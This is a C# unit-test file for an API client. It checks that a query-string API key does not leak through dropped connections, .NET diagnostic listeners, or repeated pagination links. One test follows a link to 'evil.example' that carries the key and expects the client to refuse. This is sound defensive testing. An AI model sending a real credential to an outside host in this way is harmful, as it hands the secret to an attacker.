namespace OgGen.Faults.Tests;

/// <summary>
/// Keys that a document wants in the query. .NET 8 tells every listener in the process the whole query of a request, so each test has
/// a key of its own: the canaries of the tests beside it stay as strict as ever.
/// </summary>
[TestClass]
public sealed class QueryKeyFaults() : FaultTest("q" + Guid.NewGuid())
{
    private static bool DotnetTellsTheQuery => Environment.Version.Major < 9;

    [TestMethod]
    public async Task F02_a_lost_connection_tells_neither_key_nor_query()
    {
        RawServer server = Serve(x =>
        {
            x.Reset();
            return Task.CompletedTask;
        });
        await FailAsync<ApiConnectionException>(QueryClient(server).GetAsync());
    }

    [TestMethod]
    [DataRow(false)]
    [DataRow(true)]
    public async Task F03_dotnet_tells_listeners_the_key_before_version_9_and_not_after(bool isOfTheUser)
    {
        string path = "p" + Guid.NewGuid();
        using var listener = new KeyCanary(path);
        RawServer server = Serve(Given.Pet);
        ApiClientOptions options = Once();
        options.HttpClient = isOfTheUser ? UserClient() : null;
        await QueryClient(server, options).SendAsync("GET", r => r.PathLiteral("/" + path));

        string start = listener.Leaks.Single(static l => l.StartsWith("event RequestStart: ", StringComparison.Ordinal));
        StringAssert.Contains(start, $"/{path}?{(DotnetTellsTheQuery ? "api_key=" + Key : "*")} ");
        Assert.HasCount(DotnetTellsTheQuery ? 1 : 0, Canary.Leaks);
    }

    [TestMethod]
    public async Task F12_a_key_that_the_next_page_repeats_is_sent_once()
    {
        RawServer server = Serve(Given.Pet);
        ApiResponse<Pet> first = await QueryClient(server).GetAsync();
        await first.FollowAsync("/pets?api_key=old&page=2");
        await first.FollowAsync($"/pets?page=2&api_key={Key}");
        await first.FollowAsync("/pets?api_key=old");
        CollectionAssert.AreEqual(
            new[] { $"/pets/7?api_key={Key}", $"/pets?page=2&api_key={Key}", $"/pets?page=2&api_key={Key}", $"/pets?api_key={Key}" },
            server.Requests.Select(r => r.Target).ToArray());
        await FailAsync<ApiException>(first.FollowAsync($"http://evil.example/?api_key={Key}"));
    }

    private protected override bool IsDocumented(string leak)
        => DotnetTellsTheQuery && leak.StartsWith("event RequestStart: ", StringComparison.Ordinal);

    private TestClient QueryClient(RawServer server, ApiClientOptions? options = null)
        => Keep(new TestClient(server.Address, ApiCredential.ApiKey("key", ApiKeyLocation.Query, "api_key", Key), options ?? Once()));
}
